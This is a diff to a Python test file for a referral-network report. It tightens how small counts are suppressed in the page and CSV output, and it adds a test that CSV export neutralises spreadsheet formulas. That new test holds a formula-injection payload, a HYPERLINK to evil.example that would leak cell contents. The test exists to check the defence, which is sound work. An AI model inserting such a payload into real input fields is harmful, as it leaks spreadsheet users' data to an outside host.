@@ -26,7 +26,8 @@ def taxonomy(db):  # noqa: ANN001,ANN201
 
 @pytest.fixture
 def referrals(taxonomy):  # noqa: ANN001,ANN201
-    """Six declined for no room (shown as 6), two not eligible (shown as "fewer than 5")."""
+    """Six declined for no room, two not eligible: the two are hidden, and so are the six, since
+    the declined total (8) would give the two away."""
     counselor = factories.make_user(Role.COUNSELOR, facility=factories.make_facility())
     org = factories.make_organization()
     service = factories.make_service(org, location=factories.make_location(org, town="Waterbury"))
@@ -59,15 +60,16 @@ def test_admins_and_analysts_see_suppressed_counts(referrals, client, login, rol
     assert page.status_code == 200
     html = page.get_data(as_text=True)
     assert "Network measures" in html
-    assert "Declined: No room</th><td>6</td>" in html
-    assert "Declined: Not eligible</th><td>fewer than 5</td>" in html
+    assert "Declined: No room</th><td>not shown</td>" in html  # 8 - 6 would reveal the 2
+    assert "Declined: Not eligible</th><td>not shown</td>" in html
+    assert "Declined</th><td>8</td>" in html
     assert "Referrals sent</th><td>8</td>" in html
-    # Unmet need by need area: housing has 6 no-room declines, 1 search; legal 3 searches.
-    assert (
-        '<th scope="row">Housing</th><td>fewer than 5</td><td>6</td><td>fewer than 5</td>' in html
-    )
-    assert '<th scope="row">Norwich</th><td>fewer than 5</td><td>0</td><td>0</td>' in html
-    assert '<th scope="row">Waterbury</th><td>0</td><td>6</td><td>fewer than 5</td>' in html
+    # Unmet need by need area: housing has 6 no-room declines, 1 search; legal 3 searches. The
+    # 6 is hidden too: the column adds up to "Declined: No room".
+    hidden = "<td>not shown</td>"
+    assert f'<th scope="row">Housing</th>{hidden * 3}' in html
+    assert f'<th scope="row">Norwich</th>{hidden}<td>0</td><td>0</td>' in html
+    assert f'<th scope="row">Waterbury</th><td>0</td>{hidden * 2}' in html
 
 
 def test_csv_hides_the_same_small_counts(referrals, client, login):  # noqa: ANN001
@@ -76,10 +78,23 @@ def test_csv_hides_the_same_small_counts(referrals, client, login):  # noqa: ANN
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     rows = _rows(response.get_data(as_text=True))
-    assert ["Declined: No room", "6"] in rows
-    assert ["Declined: Not eligible", "fewer than 5"] in rows
-    assert ["Norwich", "fewer than 5", "0", "0"] in rows
+    assert ["Declined", "8"] in rows
+    assert ["Declined: No room", "not shown"] in rows
+    assert ["Declined: Not eligible", "not shown"] in rows
+    assert ["Norwich", "not shown", "0", "0"] in rows
+    assert ["Waterbury", "0", "not shown", "not shown"] in rows
     assert not any(cell in {"1", "2", "3", "4"} for row in rows for cell in row)
+
+
+def test_csv_shows_a_formula_typed_into_a_search_as_text(referrals, client, login):  # noqa: ANN001
+    """Anonymous searchers choose the town text; a spreadsheet must not run it."""
+    town = '=HYPERLINK("http://evil.example/?leak="&A1,"Norwich")'
+    db.session.add(ZeroResultSearch(need_areas=["legal"], town=town))
+    db.session.commit()
+    login(factories.make_user(Role.ANALYST))
+    rows = _rows(client.get("/reports/network.csv").get_data(as_text=True))
+    assert ["'" + town, "fewer than 5", "0", "0"] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 def test_no_personal_data_on_the_page(referrals, client, login):  # noqa: ANN001
